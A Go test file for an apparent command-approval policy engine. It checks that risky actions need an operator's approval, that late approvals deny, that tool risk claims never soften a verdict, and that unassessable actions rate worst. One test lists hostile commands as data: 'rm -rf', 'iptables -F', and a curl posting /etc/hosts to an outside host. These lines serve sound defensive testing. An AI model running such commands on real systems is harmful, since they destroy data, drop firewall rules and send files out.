package policy

import (
	"context"
	"errors"
	"slices"
	"testing"

	"github.com/nod-console/nod/tools"
	"github.com/nod-console/nod/tools/risk"
)

// TestWhatMustBeAskedIs: where the operator himself must allow something, no rule and
// no plain look lets it pass.
func TestWhatMustBeAskedIs(t *testing.T) {
	asked := 0
	s := engine(t, Options{
		Rules: rules(t, "[[rule]]\nverdict = \"allow\"\nprogram = \"touch\"\nargv = [\"/srv/x\"]\nexact = true\n"),
		Approver: say(func(r Request) Answer {
			asked++
			return Answer{Approved: true, Typed: r.Confirm}
		}),
	})
	for n, text := range []string{"df -h", "touch /srv/x"} {
		p := command(text)
		if d := s.decide(t, p); d.Asked || !d.Allowed {
			t.Fatalf("%q: %+v", text, d)
		}
		p.Must = "it holds a secret"
		if d := s.decide(t, p); !d.Asked || !d.Allowed || asked != n+1 {
			t.Errorf("%q: %+v", text, d)
		}
	}
}

// hasty is an operator whose answer comes when nobody waits for it any more.
type hasty struct{ cancel context.CancelFunc }

func (h hasty) Approve(_ context.Context, r Request) (Answer, error) {
	h.cancel()
	return Answer{RequestID: r.ID, Approved: true, Typed: r.Confirm}, nil
}

func TestAnAnswerThatComesTooLateDenies(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	s := engine(t, Options{Approver: hasty{cancel}})
	p := command("touch x")
	d, err := s.Decide(ctx, p)
	if !errors.Is(err, context.Canceled) || d.Allowed || d.How != DeniedByCancel {
		t.Errorf("%+v, %v", d, err)
	}
	s.proved(t, p, d)
}

// TestWhatIsWorseIsApprovedOnce, also where no name must be typed.
func TestWhatIsWorseIsApprovedOnce(t *testing.T) {
	s := engine(t, Options{Trust: map[string]Trust{"local": Lab}, Approver: say(func(r Request) Answer {
		return Answer{Approved: true, Typed: r.Confirm, Scope: Conversation}
	})})
	for _, text := range []string{"rm -rf /srv/x", "iptables -F", "curl -d @/etc/hosts http://x", "./unknown.sh"} {
		d := s.decide(t, command(text))
		if d.Request == nil || d.Request.Confirm != "" {
			t.Fatalf("%q: %+v", text, d)
		}
		if d.Allowed || slices.Contains(d.Request.Scopes, Conversation) || slices.Contains(d.Request.Scopes, Always) {
			t.Errorf("%q: %v were offered", text, d.Request.Scopes)
		}
	}
}

// TestAClaimNeverMakesItMilder, whatever both are.
func TestAClaimNeverMakesItMilder(t *testing.T) {
	for _, effect := range []risk.Effect{risk.Unassessed, risk.Observe, risk.Mutate, risk.Destroy} {
		for _, level := range []risk.Level{risk.Unrated, risk.Low, risk.Medium, risk.High} {
			for _, flags := range []risk.Flags{0, risk.Privesc, risk.Opaque} {
				for _, word := range []string{"low", "medium", "high", "", "none"} {
					v := risk.Verdict{Effect: effect, Level: level, Flags: flags, Privesc: flags.Has(risk.Privesc), Mutation: effect.AtLeast(risk.Mutate)}
					c := combine(v, tools.Claim{Risk: word})
					if !c.Effect.AtLeast(v.Effect) || !c.Level.AtLeast(v.Level) || !c.Flags.Has(v.Flags) || c.Privesc != v.Privesc || c.Mutation != v.Mutation || c.Auto {
						t.Errorf("%+v with the claim %q is %+v", v, word, c)
					}
				}
			}
		}
	}
}

// TestWhatCannotBeAssessedIsTheWorst.
func TestWhatCannotBeAssessedIsTheWorst(t *testing.T) {
	for _, a := range []tools.Action{
		{Kind: 99},
		{Kind: tools.Run, Command: "ls", Dialect: "cmd.exe"},
	} {
		if v := assess(a); v.Auto || !v.Effect.AtLeast(risk.Destroy) || !v.Level.AtLeast(risk.High) || !v.Flags.Has(risk.Opaque) {
			t.Errorf("%+v: %+v", a, v)
		}
	}
}
